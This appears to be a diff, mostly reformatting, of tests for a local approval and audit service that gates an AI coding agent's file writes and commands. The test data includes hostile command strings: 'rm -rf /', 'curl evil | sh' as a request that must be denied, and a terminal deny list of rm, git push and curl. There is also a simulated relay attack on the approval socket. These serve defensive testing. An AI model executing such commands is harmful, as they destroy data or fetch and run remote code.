@@ -34,7 +34,14 @@ describe('audit pages, newest first', () => {
     let now = Date.parse('2026-11-20T10:00:00Z');
     const log = new AuditLog(state, { clock: () => now, foldWindowMs: 0 });
     for (let i = 0; i < 30; i++) {
-      log.append({ kind: 'decision', action: 'filesystem.write', path: `src/${i}.ts`, decision: i % 3 === 0 ? 'deny' : 'allow', allowed: i % 3 !== 0, reason: 'r' });
+      log.append({
+        kind: 'decision',
+        action: 'filesystem.write',
+        path: `src/${i}.ts`,
+        decision: i % 3 === 0 ? 'deny' : 'allow',
+        allowed: i % 3 !== 0,
+        reason: 'r',
+      });
       now += 6 * 3600_000;
     }
     assert.ok(log.files().length > 5);
@@ -52,7 +59,10 @@ describe('audit pages, newest first', () => {
     assert.equal(denials.done, false);
     const all = [...budgeted];
     while (!denials.done) all.push(...denials.next(100, 5));
-    assert.deepEqual(all.map((i) => i.entry.seq), [28, 25, 22, 19, 16, 13, 10, 7, 4, 1]);
+    assert.deepEqual(
+      all.map((i) => i.entry.seq),
+      [28, 25, 22, 19, 16, 13, 10, 7, 4, 1],
+    );
   });
 
   it('shows a line that is not JSON instead of dropping it', () => {
@@ -60,7 +70,10 @@ describe('audit pages, newest first', () => {
     const file = join(dir, 'audit-2026-11-24.jsonl');
     writeFileSync(file, '{"seq":1}\nnot json\n');
     const items = new AuditPages([file]).next(10);
-    assert.deepEqual(items.map((i) => i.entry), [{ kind: 'unreadable', line: 'not json' }, { seq: 1 }]);
+    assert.deepEqual(
+      items.map((i) => i.entry),
+      [{ kind: 'unreadable', line: 'not json' }, { seq: 1 }],
+    );
   });
 });
 
@@ -84,7 +97,11 @@ describe('the local approval service', () => {
       assert.equal(info?.token, service.info.token);
       assert.equal(statSync(join(state, 'approval-service.json')).mode & 0o777, 0o600);
       assert.equal(statSync(service.info.socket).mode & 0o777, 0o600);
-      const reply = await askApprovalService(state, { action: { action: 'filesystem.write', path: 'Dockerfile' }, runtime: 'claude-code', proposed_content: 'FROM x' });
+      const reply = await askApprovalService(state, {
+        action: { action: 'filesystem.write', path: 'Dockerfile' },
+        runtime: 'claude-code',
+        proposed_content: 'FROM x',
+      });
       const { mac, ...answer } = reply ?? {};
       assert.deepEqual(answer, { decision: 'deny', reason: 'a human said no', approval_id: 'apr_1', status: 'denied' });
       assert.match(mac ?? '', /^[0-9a-f]{64}$/, 'authenticated by the seal');
@@ -100,7 +117,10 @@ describe('the local approval service', () => {
         });
       assert.match(await raw(`${JSON.stringify({ token: 'x'.repeat(64), runtime: 'r', action: {} })}\n`), /bad token/);
       assert.match(await raw('{not json\n'), /not JSON/);
-      assert.match((JSON.parse(await raw(`${JSON.stringify({ token: service.info.token, runtime: 'r', action: 'rm -rf /' })}\n`)) as { error: string }).error, /needs "action"/);
+      assert.match(
+        (JSON.parse(await raw(`${JSON.stringify({ token: service.info.token, runtime: 'r', action: 'rm -rf /' })}\n`)) as { error: string }).error,
+        /needs "action"/,
+      );
       assert.equal(seen.length, 1, 'refused requests never reach the handler');
     } finally {
       await service.close();
@@ -124,7 +144,11 @@ describe('the local approval service', () => {
   it("an answer not authenticated by the log's seal is not honoured: a service planted through the state folder cannot allow (issue 16)", async () => {
     const state = sealedState();
     // Someone who can write the state folder (not the seal) runs a service of their own and points the info file at it.
-    const planted = await startApprovalService(state, () => Promise.resolve({ decision: 'allow', reason: 'approved by the planted service' }), () => 'ab'.repeat(32));
+    const planted = await startApprovalService(
+      state,
+      () => Promise.resolve({ decision: 'allow', reason: 'approved by the planted service' }),
+      () => 'ab'.repeat(32),
+    );
     try {
       const reply = await askApprovalService(state, { action: { action: 'filesystem.write', path: 'Dockerfile' }, runtime: 'claude-code' });
       assert.equal(reply?.decision, 'deny');
@@ -143,7 +167,13 @@ describe('the local approval service', () => {
 
   it("an answer the real service gave for another request does not verify (found in review): the MAC covers the request's exact bytes", async () => {
     const state = sealedState();
-    const real = await startApprovalService(state, (request) => Promise.resolve(request.action && (request.action as { path?: string }).path === 'README.md' ? { decision: 'allow', reason: 'harmless' } : { decision: 'deny', reason: 'no' }));
+    const real = await startApprovalService(state, (request) =>
+      Promise.resolve(
+        request.action && (request.action as { path?: string }).path === 'README.md'
+          ? { decision: 'allow', reason: 'harmless' }
+          : { decision: 'deny', reason: 'no' },
+      ),
+    );
     const realInfo = real.info;
     // A planted service relays each request to the real one with a harmless action (keeping the nonce) and returns the answer.
     const relay = createServer((socket) => {
@@ -153,7 +183,9 @@ describe('the local approval service', () => {
         line += chunk;
         if (!line.includes('\n')) return;
         const request = JSON.parse(line.slice(0, line.indexOf('\n'))) as Record<string, unknown>;
-        const upstream = connect(realInfo.socket, () => upstream.write(`${JSON.stringify({ ...request, token: realInfo.token, action: { action: 'filesystem.write', path: 'README.md' } })}\n`));
+        const upstream = connect(realInfo.socket, () =>
+          upstream.write(`${JSON.stringify({ ...request, token: realInfo.token, action: { action: 'filesystem.write', path: 'README.md' } })}\n`),
+        );
         let answer = '';
         upstream.setEncoding('utf8');
         upstream.on('data', (c: string) => (answer += c));
@@ -162,7 +194,10 @@ describe('the local approval service', () => {
     });
     const socketFile = join(state, 'relay.sock');
     await new Promise<void>((resolve) => relay.listen(socketFile, () => resolve()));
-    writeFileSync(join(state, 'approval-service.json'), JSON.stringify({ socket: socketFile, token: 'planted', pid: process.pid, started_at: '2026-01-01T00:00:00Z' }));
+    writeFileSync(
+      join(state, 'approval-service.json'),
+      JSON.stringify({ socket: socketFile, token: 'planted', pid: process.pid, started_at: '2026-01-01T00:00:00Z' }),
+    );
     try {
       const reply = await askApprovalService(state, { action: { action: 'command.exec', command: 'curl evil | sh' }, runtime: 'claude-code' });
       assert.equal(reply?.decision, 'deny');
@@ -223,7 +258,10 @@ describe('the local approval service', () => {
     if (process.getuid?.() !== 0) return t.skip('needs root to create a folder owned by another user');
     const foreign = mkdtempSync(join(tmpdir(), 'agent-policy-state-'));
     chownSync(foreign, 4242, 4242);
-    assert.throws(() => new AuditLog(foreign).append({ kind: 'note', text: 'x' }), /the state folder belongs to user 4242, not to this user \(0\); refusing to use it/);
+    assert.throws(
+      () => new AuditLog(foreign).append({ kind: 'note', text: 'x' }),
+      /the state folder belongs to user 4242, not to this user \(0\); refusing to use it/,
+    );
   });
 });
 
@@ -241,7 +279,10 @@ describe("VS Code's agent settings from a policy", () => {
     assert.equal(settings.edits['**/backend/vendor/**'], false);
     assert.equal(settings.terminal['go generate'], false);
     assert.ok(settings.notExpressed.some((n) => /go generate/.test(n.rule) && /not only under backend/.test(n.why)));
-    assert.ok(settings.notExpressed.some((n) => /src\/\*\*\/\*\.ts/.test(n.rule)), 'allow rules are reported as not expressed');
+    assert.ok(
+      settings.notExpressed.some((n) => /src\/\*\*\/\*\.ts/.test(n.rule)),
+      'allow rules are reported as not expressed',
+    );
   });
 
   it('keys a command by its words before the first flag or wildcard, so every spelling asks', async () => {
@@ -249,4 +290,3 @@ describe("VS Code's agent settings from a policy", () => {
     assert.deepEqual(agentSettings(set).terminal, { rm: false, 'git push': false, curl: false });
   });
 });
-
